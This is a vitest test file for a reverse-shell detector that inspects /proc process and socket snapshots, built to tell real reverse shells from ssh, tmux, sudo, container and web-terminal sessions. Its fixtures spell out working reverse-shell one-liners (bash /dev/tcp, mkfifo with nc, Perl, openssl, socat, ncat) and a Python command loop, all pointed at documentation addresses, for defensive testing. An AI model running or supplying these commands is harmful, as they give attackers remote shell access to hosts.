import { describe, expect, it } from 'vitest';
import { classifyFdTarget } from '../../host/procfs/parse-proc.js';
import type { FdEntry, InetSocket, ProcessInfo, ProcessSnapshot, UnixSocket } from '../../host/procfs/snapshot-types.js';
import { detectReverseShells } from './detect.js';
import { memoScriptAnalysis } from './script-program.js';

/** Small builder for hand-made snapshots: fds are given as link targets, like /proc shows them. */
class Host {
  private readonly procs: ProcessInfo[] = [];
  private readonly inet: InetSocket[] = [];
  private readonly unix: UnixSocket[] = [];
  private nextInode = 5000;

  proc(pid: number, ppid: number, comm: string, cmdline: string[], fds: Record<number, string>, extra: Partial<ProcessInfo> = {}): this {
    const entries: FdEntry[] = Object.entries(fds).map(([fd, target]) => {
      const e = classifyFdTarget(Number(fd), target);
      const master = /^\/dev\/ptmx#(\d+)$/.exec(target);
      if (master) return { fd: Number(fd), target: '/dev/ptmx', kind: 'ptmx', ttyIndex: Number(master[1]) };
      const fifo = /^fifo:(.*)$/.exec(target);
      if (fifo) return { fd: Number(fd), target: fifo[1] ?? '', kind: 'file', fifoId: `64:${fifo[1]}` };
      return e;
    });
    this.procs.push({ pid, ppid, uid: 0, comm, cmdline, startTime: pid, fds: entries, exe: `/usr/bin/${comm}`, ...extra });
    return this;
  }

  /** A TCP connection (or listener); returns its `socket:[N]` target. */
  tcp(remote: string, remotePort: number, localPort: number, state: InetSocket['state'] = 'ESTABLISHED'): string {
    const inode = this.nextInode++;
    this.inet.push({ inode, proto: 'tcp', localAddress: '10.0.0.2', localPort, remoteAddress: remote, remotePort, state, uid: 0 });
    return `socket:[${inode}]`;
  }

  /** Both ends of a socketpair (consecutive inodes, as the kernel allocates them). */
  socketpair(): [string, string] {
    const a = this.nextInode++;
    const b = this.nextInode++;
    this.unix.push({ inode: a, type: 1, state: 3, listening: false }, { inode: b, type: 1, state: 3, listening: false });
    return [`socket:[${a}]`, `socket:[${b}]`];
  }

  snapshot(selfPid = 1): ProcessSnapshot {
    return {
      selfPid,
      processes: this.procs,
      inetSockets: this.inet,
      unixSockets: this.unix,
      stats: { skippedProcesses: 0, skippedFds: 0, truncated: false, netNamespaces: 1 },
    };
  }
}

const init = (h: Host): Host => h.proc(1, 0, 'init', ['/sbin/init'], {}, { exe: '/sbin/init' });

describe('class 1: shell stdio on a socket', () => {
  it('reports bash -i with stdio on an outbound connection', () => {
    const h = init(new Host());
    const s = h.tcp('203.0.113.5', 4444, 41000);
    h.proc(100, 1, 'bash', ['bash', '-i'], { 0: s, 1: s, 2: s, 255: '/dev/tty' });
    const f = detectReverseShells(h.snapshot());
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({
      ruleId: 'revshell.stdio-socket',
      class: 1,
      level: 'serious',
      pid: 100,
      peer: { proto: 'tcp', remoteAddress: '203.0.113.5', remotePort: 4444, localPort: 41000 },
      holderPid: 100,
    });
    expect(f[0]?.processChain.map((p) => p.pid)).toEqual([100, 1]);
    expect(f[0]?.fds).toEqual([
      { fd: 0, target: s },
      { fd: 1, target: s },
      { fd: 2, target: s },
    ]);
  });

  it('reports one direction only as suspicious, and ignores a socket off stdio', () => {
    const h = init(new Host());
    const s1 = h.tcp('203.0.113.5', 514, 41001);
    h.proc(100, 1, 'sh', ['sh', '/opt/report.sh'], { 0: '/dev/null', 1: s1, 2: s1 });
    const s2 = h.tcp('203.0.113.5', 80, 41002);
    h.proc(101, 1, 'bash', ['bash'], { 0: '/dev/pts/9', 1: '/dev/pts/9', 3: s2 });
    const f = detectReverseShells(h.snapshot());
    expect(f.map((x) => [x.pid, x.level])).toEqual([[100, 'suspicious']]);
  });

  it('ignores listening sockets without a peer', () => {
    const h = init(new Host());
    const l = h.tcp('0.0.0.0', 0, 4444, 'LISTEN');
    h.proc(100, 1, 'sh', ['sh'], { 0: l, 1: l });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });

  it('collapses subshells of the same session into the outer shell', () => {
    const h = init(new Host());
    const s = h.tcp('203.0.113.5', 4444, 41000);
    h.proc(100, 1, 'bash', ['bash', '-i'], { 0: s, 1: s, 2: s });
    h.proc(101, 100, 'bash', ['bash', '-i'], { 0: s, 1: 'pipe:[77]', 2: s });
    h.proc(102, 101, 'bash', ['bash'], { 0: s, 1: s, 2: s });
    expect(detectReverseShells(h.snapshot()).map((f) => f.pid)).toEqual([100]);
  });
});

describe('class 2: relayed through pipes, FIFOs, ptys and socketpairs', () => {
  it('follows cat FIFO | sh -i | nc > FIFO, two hops on the stdin side', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.1', 9001, 42000);
    h.proc(200, 1, 'sh', ['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.1 9001 >/tmp/f'], { 0: '/dev/null', 1: '/dev/null', 2: '/dev/null' });
    h.proc(201, 200, 'cat', ['cat', '/tmp/f'], { 0: '/dev/null', 1: 'pipe:[10]', 2: '/dev/null', 3: 'fifo:/tmp/f' });
    h.proc(202, 200, 'sh', ['sh', '-i'], { 0: 'pipe:[10]', 1: 'pipe:[11]', 2: 'pipe:[11]' });
    h.proc(203, 200, 'nc', ['nc', '198.51.100.1', '9001'], { 0: 'pipe:[11]', 1: 'fifo:/tmp/f', 2: '/dev/null', 3: s });
    const f = detectReverseShells(h.snapshot());
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ ruleId: 'revshell.relayed-stdio', class: 2, level: 'serious', pid: 202, holderPid: 203 });
    expect(f[0]?.via.map((v) => [v.pid, v.link])).toEqual([
      [201, 'pipe'],
      [203, 'fifo'],
      [203, 'pipe'],
    ]);
    expect(f[0]?.processChain.map((p) => p.pid)).toEqual([202, 200, 1]);
  });

  it('a relay tool still connecting ends the path: no report through a pipe it inherited, then the right one', () => {
    // CI saw this: the shell's relay (openssl) had no socket in the tables yet, and the search went on
    // through a pipe openssl inherited from its test-runner ancestor to that node process's connection.
    const h = init(new Host());
    const runner = h.tcp('127.0.0.1', 39463, 57446);
    h.proc(90, 1, 'node', ['node', 'vitest-worker.js'], { 0: '/dev/null', 1: 'pipe:[94]', 2: 'pipe:[94]', 21: runner, 251: 'pipe:[94]' });
    h.proc(400, 90, 'sh', ['sh', '-c', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:44949 > /tmp/s'], { 0: '/dev/null', 1: '/dev/null', 2: '/dev/null', 251: 'pipe:[94]' });
    h.proc(401, 400, 'sh', ['/bin/sh', '-i'], { 0: 'fifo:/tmp/s', 1: 'pipe:[12]', 2: 'pipe:[12]', 251: 'pipe:[94]' });
    const connecting = { 0: 'pipe:[12]', 1: 'fifo:/tmp/s', 2: '/dev/null', 251: 'pipe:[94]' };
    h.proc(402, 400, 'openssl', ['openssl', 's_client', '-quiet', '-connect', '127.0.0.1:44949'], { ...connecting, 3: 'socket:[999999]' });
    // (The `sh -c` line itself is a reverse-shell command line: that rule needs no socket.)
    expect(detectReverseShells(h.snapshot()).map((x) => [x.ruleId, x.pid])).toEqual([['revshell.cmdline', 400]]);

    const later = init(new Host());
    later.proc(90, 1, 'node', ['node', 'vitest-worker.js'], { 0: '/dev/null', 1: 'pipe:[94]', 2: 'pipe:[94]', 21: later.tcp('127.0.0.1', 39463, 57446), 251: 'pipe:[94]' });
    later.proc(401, 400, 'sh', ['/bin/sh', '-i'], { 0: 'fifo:/tmp/s', 1: 'pipe:[12]', 2: 'pipe:[12]', 251: 'pipe:[94]' });
    later.proc(402, 400, 'openssl', ['openssl', 's_client', '-quiet', '-connect', '127.0.0.1:44949'], { ...connecting, 3: later.tcp('127.0.0.1', 44949, 51000) });
    const f = detectReverseShells(later.snapshot());
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ ruleId: 'revshell.relayed-stdio', pid: 401, holderPid: 402, peer: { remotePort: 44949 } });
  });

  it('follows a pty slave to the master holder (socat pty / python pty.spawn)', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.1', 443, 42001);
    h.proc(300, 1, 'python3', ['python3', '/tmp/.x.py'], { 0: s, 1: s, 2: s, 3: '/dev/ptmx#4' });
    h.proc(301, 300, 'sh', ['/bin/sh'], { 0: '/dev/pts/4', 1: '/dev/pts/4', 2: '/dev/pts/4' });
    const f = detectReverseShells(h.snapshot());
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ class: 2, level: 'serious', pid: 301, holderPid: 300, via: [{ pid: 300, link: 'pty', resource: '/dev/pts/4' }] });
  });

  it('follows a socketpair between parent and child (socat EXEC without pty)', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.1', 53, 42002);
    const [a, b] = h.socketpair();
    h.proc(400, 1, 'socat', ['socat', 'TCP:198.51.100.1:53', 'EXEC:bash'], { 0: '/dev/null', 5: s, 6: a });
    h.proc(401, 400, 'bash', ['bash'], { 0: b, 1: b, 2: '/dev/null' });
    const f = detectReverseShells(h.snapshot());
    expect(f.map((x) => [x.class, x.pid, x.holderPid, x.via[0]?.link])).toEqual([[2, 401, 400, 'socketpair']]);
  });

  it('does not link socketpair neighbours that are not parent and child', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.1', 53, 42002);
    const [a, b] = h.socketpair();
    h.proc(400, 1, 'node', ['node', 'app.js'], { 5: s, 6: a });
    h.proc(401, 1, 'bash', ['bash'], { 0: b, 1: b });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });

  it('needs both directions: curl | sh (download and run) is not a reverse shell', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.20', 443, 42003);
    h.proc(500, 1, 'curl', ['curl', '-fsSL', 'https://get.example.com'], { 1: 'pipe:[20]', 3: s });
    h.proc(501, 1, 'sh', ['sh'], { 0: 'pipe:[20]', 1: '/dev/pts/1', 2: '/dev/pts/1' });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });

  it('does not call `sh -c` run by a networked service class 2, but does for a relay tool', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.30', 5432, 42004);
    h.proc(600, 1, 'node', ['node', 'worker.js'], { 3: s, 10: 'pipe:[30]', 11: 'pipe:[31]' });
    h.proc(601, 600, 'sh', ['/bin/sh', '-c', 'convert in.png out.jpg'], { 0: 'pipe:[30]', 1: 'pipe:[31]', 2: 'pipe:[31]' });
    const s2 = h.tcp('198.51.100.31', 4444, 42005);
    h.proc(700, 1, 'ncat', ['ncat', '198.51.100.31', '4444', '--sh-exec', 'bash -i'], { 3: s2, 4: 'pipe:[40]', 5: 'pipe:[41]' });
    h.proc(701, 700, 'sh', ['/bin/sh', '-c', 'bash -i'], { 0: 'pipe:[40]', 1: 'pipe:[41]', 2: 'pipe:[41]' });
    const f = detectReverseShells(h.snapshot());
    // The worker is an outbound interpreter running `sh -c`: the shell does not read commands from it.
    expect(f.map((x) => [x.pid, x.class, x.level])).toEqual([[701, 2, 'serious']]);
  });

  it('ignores a server (it listens) feeding a helper shell through pipes, like Erlang `sh -s`', () => {
    const h = init(new Host());
    const l = h.tcp('0.0.0.0', 0, 5672, 'LISTEN');
    const s = h.tcp('127.0.0.1', 4369, 42866);
    h.proc(800, 1, 'beam.smp', ['beam.smp', '--', '-root', '/usr/lib/erlang'], { 3: l, 4: s, 7: 'pipe:[50]', 8: 'pipe:[51]' });
    h.proc(801, 800, 'sh', ['/bin/sh', '-s', 'rabbit_disk_monitor'], { 0: 'pipe:[50]', 1: 'pipe:[51]', 2: 'pipe:[51]' });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });

  it('reports an unknown binary relaying an interactive shell as suspicious', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.40', 8443, 42006);
    h.proc(900, 1, 't', ['/tmp/go-build1/b001/exe/t'], { 3: s, 5: 'pipe:[60]', 6: 'pipe:[61]' }, { exe: '/tmp/go-build1/b001/exe/t' });
    h.proc(901, 900, 'bash', ['bash'], { 0: 'pipe:[60]', 1: 'pipe:[61]', 2: 'pipe:[61]' });
    expect(detectReverseShells(h.snapshot()).map((x) => [x.pid, x.class, x.level])).toEqual([[901, 2, 'suspicious']]);
  });
});

describe('benign terminal services', () => {
  it('an ssh session: sshd-session holds the socket and the pty master', () => {
    const h = init(new Host());
    const l = h.tcp('0.0.0.0', 0, 22, 'LISTEN');
    const s = h.tcp('192.0.2.50', 53122, 22);
    h.proc(1000, 1, 'sshd', ['sshd: /usr/sbin/sshd -D [listener]'], { 3: l }, { exe: '/usr/sbin/sshd' });
    h.proc(1001, 1000, 'sshd-session', ['sshd-session: root@pts/0'], { 4: s, 7: '/dev/ptmx#0' }, { exe: '/usr/lib/openssh/sshd-session' });
    h.proc(1002, 1001, 'bash', ['-bash'], { 0: '/dev/pts/0', 1: '/dev/pts/0', 2: '/dev/pts/0' });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });

  it('a process merely named sshd from /tmp is not trusted', () => {
    const h = init(new Host());
    const s = h.tcp('192.0.2.50', 4444, 40100);
    h.proc(1100, 1, 'sshd', ['sshd'], { 0: s, 1: s, 7: '/dev/ptmx#3' }, { exe: '/tmp/.x/sshd' });
    h.proc(1101, 1100, 'bash', ['bash', '-i'], { 0: '/dev/pts/3', 1: '/dev/pts/3', 2: '/dev/pts/3' });
    expect(detectReverseShells(h.snapshot()).map((x) => [x.pid, x.holderPid])).toEqual([[1101, 1100]]);
  });

  it('tmux under ssh, with an ssh client in another pane', () => {
    const h = init(new Host());
    const s = h.tcp('192.0.2.50', 53122, 22);
    const out = h.tcp('192.0.2.99', 22, 40200);
    h.proc(1201, 1, 'sshd-session', ['sshd-session: root@pts/0'], { 4: s, 7: '/dev/ptmx#0' }, { exe: '/usr/lib/openssh/sshd-session' });
    h.proc(1202, 1201, 'bash', ['-bash'], { 0: '/dev/pts/0', 1: '/dev/pts/0', 2: '/dev/pts/0' });
    h.proc(1203, 1202, 'tmux: client', ['tmux', 'attach'], { 0: '/dev/pts/0', 1: '/dev/pts/0', 2: '/dev/pts/0' }, { exe: '/usr/bin/tmux' });
    h.proc(1210, 1, 'tmux: server', ['tmux', 'attach'], { 0: '/dev/null', 5: '/dev/pts/0', 8: '/dev/ptmx#1', 9: '/dev/ptmx#2' }, { exe: '/usr/bin/tmux' });
    h.proc(1211, 1210, 'bash', ['-bash'], { 0: '/dev/pts/1', 1: '/dev/pts/1', 2: '/dev/pts/1' });
    h.proc(1212, 1210, 'bash', ['-bash'], { 0: '/dev/pts/2', 1: '/dev/pts/2', 2: '/dev/pts/2' });
    h.proc(1213, 1212, 'ssh', ['ssh', 'db01'], { 0: '/dev/pts/2', 1: '/dev/pts/2', 2: '/dev/pts/2', 3: out });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });

  it('sudo and docker-exec style ptys', () => {
    const h = init(new Host());
    const s = h.tcp('192.0.2.50', 53122, 22);
    h.proc(1301, 1, 'sshd-session', ['sshd-session: admin@pts/0'], { 4: s, 7: '/dev/ptmx#0' }, { exe: '/usr/lib/openssh/sshd-session' });
    h.proc(1302, 1301, 'sudo', ['sudo', '-i'], { 0: '/dev/pts/0', 1: '/dev/pts/0', 2: '/dev/pts/0', 5: '/dev/ptmx#1' });
    h.proc(1303, 1302, 'bash', ['-bash'], { 0: '/dev/pts/1', 1: '/dev/pts/1', 2: '/dev/pts/1' });
    h.proc(1400, 1, 'containerd-shim', ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby'], { 3: h.tcp('192.0.2.60', 2376, 40300), 9: '/dev/ptmx#5' }, { exe: '/usr/bin/containerd-shim-runc-v2' });
    h.proc(1401, 1400, 'sh', ['/bin/sh'], { 0: '/dev/pts/5', 1: '/dev/pts/5', 2: '/dev/pts/5' });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });

  it('operator-allowed holders (a site web terminal) are not relays', () => {
    const h = init(new Host());
    const s = h.tcp('192.0.2.70', 50000, 7681);
    h.proc(1500, 1, 'ttyd', ['ttyd', 'bash'], { 3: s, 8: '/dev/ptmx#6' }, { exe: '/usr/local/bin/ttyd' });
    h.proc(1501, 1500, 'bash', ['bash'], { 0: '/dev/pts/6', 1: '/dev/pts/6', 2: '/dev/pts/6' });
    expect(detectReverseShells(h.snapshot())).toHaveLength(1);
    expect(detectReverseShells(h.snapshot(), { allowedHolders: ['ttyd'] })).toEqual([]);
  });

  it('never reports the agent itself', () => {
    const h = init(new Host());
    const s = h.tcp('192.0.2.80', 443, 40400);
    h.proc(1600, 1, 'node', ['node', 'vigil', 'agent'], { 3: s, 10: 'pipe:[70]', 11: 'pipe:[71]' });
    h.proc(1601, 1600, 'sh', ['sh'], { 0: 'pipe:[70]', 1: 'pipe:[71]' });
    expect(detectReverseShells(h.snapshot(1600))).toEqual([]);
    expect(detectReverseShells(h.snapshot(1))).toHaveLength(1);
  });
});

describe('class 3: interpreters', () => {
  it('reports an interpreter whose command line is a reverse shell, with no shell yet', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.2', 9001, 43000);
    h.proc(1700, 1, 'perl', ['perl', '-MIO', '-e', '$c=new IO::Socket::INET(PeerAddr,"198.51.100.2:9001");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'], { 0: '/dev/null', 3: s });
    const f = detectReverseShells(h.snapshot());
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ ruleId: 'revshell.interpreter-cmdline', class: 3, level: 'serious', pid: 1700, holderPid: 1700 });
  });

  it('reports an outbound interpreter feeding the stdin of an interactive shell child (the relay rule sees it first)', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.3', 8080, 43001);
    h.proc(1800, 1, 'python3', ['python3', 'agent.py'], { 3: s, 5: 'pipe:[80]', 6: 'pipe:[81]' });
    h.proc(1801, 1800, 'sh', ['/bin/sh', '-i'], { 0: 'pipe:[80]', 1: 'pipe:[81]', 2: 'pipe:[81]' });
    const f = detectReverseShells(h.snapshot());
    expect(f.map((x) => [x.ruleId, x.class, x.level, x.pid, x.holderPid])).toEqual([['revshell.relayed-stdio', 2, 'serious', 1801, 1800]]);
  });

  it('does not flag an outbound interpreter (npm/node over HTTPS) running `sh -c` children, even with piped stdio', () => {
    const h = init(new Host());
    const s = h.tcp('104.16.0.35', 443, 43011);
    h.proc(1850, 1, 'node', ['node', '/usr/bin/npm', 'install'], { 3: s, 5: 'pipe:[85]', 6: 'pipe:[86]' });
    h.proc(1851, 1850, 'sh', ['sh', '-c', 'node-gyp rebuild'], { 0: 'pipe:[85]', 1: 'pipe:[86]', 2: 'pipe:[86]' });
    h.proc(1852, 1850, 'sh', ['sh', '-c', 'sleep 5'], { 0: '/dev/null', 1: 'pipe:[86]', 2: 'pipe:[86]' });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });

  describe('script files (analyzeScript)', () => {
    const PY_LOOP = [
      'import socket, subprocess, sys',
      's = socket.create_connection((sys.argv[1], 9002))',
      'for line in s.makefile("rb"):',
      '    r = subprocess.run(line.decode(), shell=True, capture_output=True)',
      '    s.sendall(r.stdout + r.stderr)',
    ].join('\n');
    const NPM_LIKE = "const s = require('net').connect(443, 'registry'); s.write(hello); require('child_process').exec('node-gyp rebuild');";
    const files: Record<string, string> = { '/opt/w/worker.py': PY_LOOP, 'install.js': NPM_LIKE };
    const reads: string[] = [];
    const analyzeScript = memoScriptAnalysis((p, path) => {
      reads.push(`${p.pid}:${path}`);
      return files[path] ?? null;
    });

    it('a command loop running each received command with `sh -c` is class 3, serious with the shell running', () => {
      const h = init(new Host());
      const s = h.tcp('198.51.100.5', 9002, 43020);
      h.proc(1870, 1, 'python3', ['python3', '-u', '/opt/w/worker.py', '198.51.100.5'], { 3: s, 5: 'pipe:[87]' });
      h.proc(1871, 1870, 'sh', ['/bin/sh', '-c', 'sleep 30; id'], { 0: '/dev/null', 1: 'pipe:[87]', 2: 'pipe:[87]' });
      const f = detectReverseShells(h.snapshot(), { analyzeScript });
      expect(f.map((x) => [x.ruleId, x.class, x.level, x.pid, x.holderPid])).toEqual([['revshell.interpreter-script', 3, 'serious', 1871, 1870]]);
      expect(f[0]?.evidence).toContain('script-reads-connection');
      // Without the option the engine cannot tell it from npm: nothing.
      expect(detectReverseShells(h.snapshot())).toEqual([]);
    });

    it('between commands (no shell child) the same loop is suspicious, and the file is read once per process', () => {
      const h = init(new Host());
      const s = h.tcp('198.51.100.5', 9002, 43021);
      h.proc(1880, 1, 'python3', ['python3', '/opt/w/worker.py'], { 3: s });
      const before = reads.length;
      expect(detectReverseShells(h.snapshot(), { analyzeScript }).map((x) => [x.ruleId, x.level, x.pid])).toEqual([['revshell.interpreter-script', 'suspicious', 1880]]);
      detectReverseShells(h.snapshot(), { analyzeScript });
      expect(reads.slice(before)).toEqual(['1880:/opt/w/worker.py']);
    });

    it('a node script that connects and runs `sh -c` but never reads the connection is not a command loop', () => {
      const h = init(new Host());
      const s = h.tcp('104.16.0.35', 443, 43022);
      h.proc(1890, 1, 'node', ['node', 'install.js'], { 3: s, 5: 'pipe:[88]' });
      h.proc(1891, 1890, 'sh', ['sh', '-c', 'node-gyp rebuild'], { 0: 'pipe:[89]', 1: 'pipe:[88]' });
      expect(detectReverseShells(h.snapshot(), { analyzeScript })).toEqual([]);
    });

    it('a listening interpreter is a server whatever its script says', () => {
      const h = init(new Host());
      const l = h.tcp('0.0.0.0', 0, 9100, 'LISTEN');
      const c = h.tcp('192.0.2.9', 51000, 9100);
      h.proc(1895, 1, 'python3', ['python3', '/opt/w/worker.py'], { 3: l, 4: c });
      h.proc(1896, 1895, 'sh', ['sh', '-c', 'uptime'], { 0: '/dev/null' });
      expect(detectReverseShells(h.snapshot(), { analyzeScript })).toEqual([]);
    });
  });

  it('ignores a web app (listening interpreter) running sh -c', () => {
    const h = init(new Host());
    const l = h.tcp('0.0.0.0', 0, 8000, 'LISTEN');
    const c = h.tcp('192.0.2.9', 51000, 8000);
    h.proc(1900, 1, 'python3', ['gunicorn', 'app:wsgi'], { 3: l, 4: c, 5: 'pipe:[90]' });
    h.proc(1901, 1900, 'sh', ['/bin/sh', '-c', 'pg_dump app'], { 0: '/dev/null', 1: 'pipe:[90]' });
    expect(detectReverseShells(h.snapshot())).toEqual([]);
  });
});

describe('command-line rule for running processes', () => {
  it('reports a reverse-shell command line whose connection is not up yet', () => {
    const h = init(new Host());
    h.proc(2000, 1, 'bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'], { 0: '/dev/null', 1: '/dev/null' });
    const f = detectReverseShells(h.snapshot());
    expect(f.map((x) => [x.ruleId, x.class, x.level, x.peer])).toEqual([['revshell.cmdline', 1, 'suspicious', null]]);
  });

  it('does not repeat a process already in a finding’s chain', () => {
    const h = init(new Host());
    const s = h.tcp('198.51.100.4', 4444, 43002);
    h.proc(2100, 1, 'bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'], { 0: '/dev/null' });
    h.proc(2101, 2100, 'bash', ['bash', '-i'], { 0: s, 1: s, 2: s });
    expect(detectReverseShells(h.snapshot()).map((x) => [x.ruleId, x.pid])).toEqual([['revshell.stdio-socket', 2101]]);
  });
});
